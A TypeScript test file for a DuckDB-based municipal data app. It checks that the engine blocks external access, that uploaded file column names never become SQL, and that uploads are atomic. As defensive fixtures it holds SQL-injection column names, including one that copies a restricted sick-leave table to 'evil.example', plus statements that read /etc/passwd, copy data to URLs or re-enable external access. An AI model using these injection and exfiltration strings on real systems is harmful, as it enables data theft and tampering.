import { DuckDBInstance } from '@duckdb/node-api';
import { tableFromIPC } from 'apache-arrow';
import { mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readParquet } from 'parquet-wasm/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
	appendFile,
	dropStages,
	DUPLICATE_REASON,
	stageChunks,
	findLoadedDuplicates,
	type FilePlan,
	type Writer
} from '../../src/lib/db/append';
import { decodeResult } from '../../src/lib/db/decode-result';
import { fromWire } from '../../src/lib/db/query-result';
import { knownRows } from '../../src/lib/db/known-rows';
import { ENGINE_SETTINGS } from '../../src/lib/db/engine-settings';
import { fragment, sql } from '../../src/lib/queries/sql';
import { toIpcChunks } from '../../src/lib/import/stage-ipc';
import { emptyDatabase, insert, kpi } from '../helpers/fixture';
import type { NodeRunner } from '../helpers/node-runner';

/** Column names a hostile file could carry: quotes, statement breaks, table functions that reach out. */
const HOSTILE_NAMES = [
	'kommun"; DROP TABLE budget; --',
	'value" * 10 AS "value',
	"x\" FROM restricted.sick_leave, read_csv('http://127.0.0.1:9/leak.csv') --",
	"'); COPY (SELECT * FROM restricted.sick_leave) TO 'http://evil.example/x.csv'; --",
	'__proto__',
	'constructor'
];

let db: NodeRunner;
let requests = 0;
const server = createServer((_, res) => (requests++, res.end('a\n1\n')));
let url = '';

/** Every table's contents, as a hash: "nothing changed" is proven, not assumed. */
async function contents(): Promise<Record<string, string>> {
	const out: Record<string, string> = {};
	for (const t of [
		'restricted.sick_leave',
		'restricted.staffing',
		'main.budget',
		'main.kpi_safe',
		'restricted.kpi_ruled',
		'restricted.ruled',
		'main.sources',
		'main.municipalities'
	])
		out[t] = String(
			(
				await db.all(
					sql`SELECT count(*) || ':' || coalesce(md5(string_agg(x::VARCHAR, '|' ORDER BY x::VARCHAR)), '') AS h FROM ${fragment(t)} x`
				)
			)[0]!.h
		);
	return out;
}

beforeAll(async () => {
	await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
	url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
	db = await emptyDatabase();
	await insert(db, 'sick_leave', [
		kpi({
			kommun: '9999',
			measure: 'sick_leave_total_pct',
			value: 6.5,
			n: 40,
			period_start: '2024-01-01',
			period_end: '2024-12-31',
			period_label: '2024'
		})
	]);
	// The browser's settings, in the browser's order, on the same engine version.
	for (const s of ENGINE_SETTINGS) await db.all(s);
});
afterAll(() => {
	db?.close();
	server.close();
});

describe('the engine cannot reach out, and its settings cannot be undone', () => {
	it('the test server answers when asked (so zero requests below means something)', async () => {
		expect(await (await fetch(`${url}/probe.csv`)).text()).toBe('a\n1\n');
		expect(requests).toBe(1);
		requests = 0;
	});

	for (const [name, text] of [
		['read_csv over HTTP', `SELECT * FROM read_csv('URL/leak.csv')`],
		['read_text of a local file', `SELECT * FROM read_text('/etc/passwd')`],
		['COPY to a URL', `COPY (SELECT * FROM facts) TO 'URL/leak.csv'`],
		['COPY to a local file', `COPY (SELECT 1) TO '/tmp/tertial-leak.csv'`],
		['ATTACH a file', `ATTACH '/tmp/tertial-leak.db' AS leak`],
		['re-enable external access', 'SET enable_external_access = true'],
		['unlock the configuration', 'SET lock_configuration = false'],
		['install an extension', 'INSTALL httpfs'],
		['two statements in one call', 'SELECT 1; DROP TABLE main.budget']
	] as const)
		it(`refuses: ${name}`, async () => {
			await expect(db.all({ text: text.replace('URL', url), params: [] })).rejects.toThrow();
			expect(requests).toBe(0);
		});

	it('the views still build with everything locked (setup needs no external access)', async () => {
		const before = await contents();
		await db.createViews();
		expect(await contents()).toEqual(before);
	});
});

describe('a file’s column names never become SQL', () => {
	it('a crafted Parquet file: hostile column names are dropped, known ones kept, nothing run', async () => {
		const dir = mkdtempSync(join(tmpdir(), 'tertial-'));
		const file = join(dir, 'hostile.parquet');
		const native = await (await DuckDBInstance.create(':memory:')).connect();
		const cols = HOSTILE_NAMES.map((n, i) => `${i} AS "${n.replaceAll('"', '""')}"`).join(', ');
		await native.run(
			`COPY (SELECT '9999' AS kommun, 6.5::DOUBLE AS value, DATE '2024-01-31' AS period_end, ${cols}) TO '${file}'`
		);
		const before = await contents();
		const result = fromWire(decodeResult(readParquet(new Uint8Array(readFileSync(file))).intoIPCStream()));
		expect(result.columns.map((c) => c.name)).toEqual(['kommun', 'value', 'period_end', ...HOSTILE_NAMES]);
		const rows = knownRows(result);
		expect(rows).toEqual([{ kommun: '9999', value: 6.5, period_end: '2024-01-31' }]);
		expect(Object.getPrototypeOf(rows[0])).toBe(Object.prototype);
		expect(await contents()).toEqual(before);
		expect(requests).toBe(0);
	});
});

describe('an upload is all or nothing: one transaction over every table', () => {
	/** The browser's Writer on the native engine: Arrow IPC decoded and inserted with bound parameters. */
	const writer = (failOn?: RegExp): Writer => ({
		all: async (q) => {
			if (failOn?.test(q.text)) throw new Error('simulated failure');
			return db.all(q);
		},
		async insertIpc(ipc, schema, name, create = true) {
			const t = tableFromIPC(ipc);
			const cols = t.schema.fields.map((f) => f.name);
			const ref = fragment(`${schema}."${name}"`);
			if (create) await db.all(sql`CREATE TABLE ${ref} (${fragment(cols.map((c) => `"${c}" VARCHAR`).join(', '))})`);
			for (const r of t.toArray())
				await db.all({
					text: `INSERT INTO ${ref.text} VALUES (${cols.map(() => '?').join(', ')})`,
					params: cols.map((c) => (r[c] == null ? null : String(r[c])))
				});
		}
	});
	const row = (more: Record<string, string>) => ({
		kommun: '9999',
		period_start: '2024-01-01',
		period_end: '2024-01-31',
		period_kind: 'month',
		period_label: 'jan 2024',
		measure: 'sick_leave_total_pct',
		value_kind: 'actual',
		sex: 'T',
		value: '6.1',
		unit: '%',
		n: '40',
		source: 'user:test.csv',
		line: '2',
		...more
	});
	const feb = { period_start: '2024-02-01', period_end: '2024-02-29', period_label: 'feb 2024', line: '3' };
	/** The rows staged as the page stages them (chunk by chunk), then the plan that appends them. */
	const plan = async (rows: Record<string, string>[], chunkRows = 50_000): Promise<FilePlan> => ({
		source: {
			source: 'user:test.csv',
			file: 'test.csv (egen fil)',
			kommun: '9999',
			committee: 'Egen fil',
			meeting_date: '2026-01-01',
			title: 'Eget extrakt: test.csv'
		},
		kommuner: [{ kommun: '9998', name: 'Syntetisk kommun', lan_code: '99', lan_name: 'Syntetiskt län' }],
		tables: [await stageChunks(writer(), 'sick_leave', toIpcChunks('sick_leave', rows, chunkRows).chunks)]
	});
	const stages = async () =>
		(await db.all(sql`SELECT table_name FROM duckdb_tables() WHERE table_name LIKE 'upload%'`)).length;

	it('a file whose last row cannot be cast (30 February) changes nothing, in any table', async () => {
		const before = await contents();
		await expect(
			appendFile(writer(), await plan([row({}), row({ period_start: '2023-02-30', period_end: '2023-02-30' })]))
		).rejects.toThrow(/date|Conversion/i);
		expect(await contents()).toEqual(before);
		expect(await stages()).toBe(0);
	});

	it('a count too large for INTEGER changes nothing either', async () => {
		const before = await contents();
		await expect(appendFile(writer(), await plan([row({}), row({ ...feb, n: String(2 ** 31) })]))).rejects.toThrow();
		expect(await stages()).toBe(0);
		expect(await contents()).toEqual(before);
	});

	it('a failure after the rows went in (rebuilding the views) takes back the rows, the citation and the kommun', async () => {
		const before = await contents();
		await expect(
			appendFile(writer(/INTO restricted\.kpi_ruled|kpi_ruled AS/), await plan([row({}), row(feb)]))
		).rejects.toThrow('simulated');
		expect(await contents()).toEqual(before);
		expect(await stages()).toBe(0);
	});

	it('the same figure twice (over two chunks) is refused in SQL, nothing changed', async () => {
		const before = await contents();
		await expect(appendFile(writer(), await plan([row({}), row(feb), row({ line: '4' })], 2))).rejects.toThrow(
			DUPLICATE_REASON
		);
		expect(await contents()).toEqual(before);
	});

	it('a good file, in chunks, changes exactly its extract, its citation and the kommun it brings', async () => {
		const before = await contents();
		const fractions: number[] = [];
		await appendFile(writer(), await plan([row({}), row(feb)], 1), (f) => fractions.push(f));
		expect(fractions).toEqual([1 / 2, 1]);
		const after = await contents();
		expect(after['main.budget']).toBe(before['main.budget']);
		expect(after['restricted.staffing']).toBe(before['restricted.staffing']);
		expect(after['restricted.sick_leave']).toMatch(/^3:/);
		expect(after['main.kpi_safe']).toMatch(/^3:/);
		expect(after['main.sources']).not.toBe(before['main.sources']);
		expect(after['main.municipalities']).not.toBe(before['main.municipalities']);
		expect(await stages()).toBe(0);
	});

	it('a figure already loaded is named per row before loading, and refused if loaded anyway', async () => {
		const again = (await plan([row({ line: '7' })])).tables;
		expect(await findLoadedDuplicates(writer(), again, ['9999'])).toEqual([
			{ table: 'sick_leave', line: 7, cited: 'test.csv (egen fil)' }
		]);
		expect(await findLoadedDuplicates(writer(), again, ['0180'])).toEqual([]);
		// Asked twice of the same staged rows: staged once, dropped when given up.
		await dropStages(writer(), again);
		expect(await stages()).toBe(0);
		const before = await contents();
		await expect(appendFile(writer(), { ...(await plan([row({ line: '7' })])), kommuner: [] })).rejects.toThrow(
			DUPLICATE_REASON
		);
		expect(await contents()).toEqual(before);
		expect(await stages()).toBe(0);
	});
});
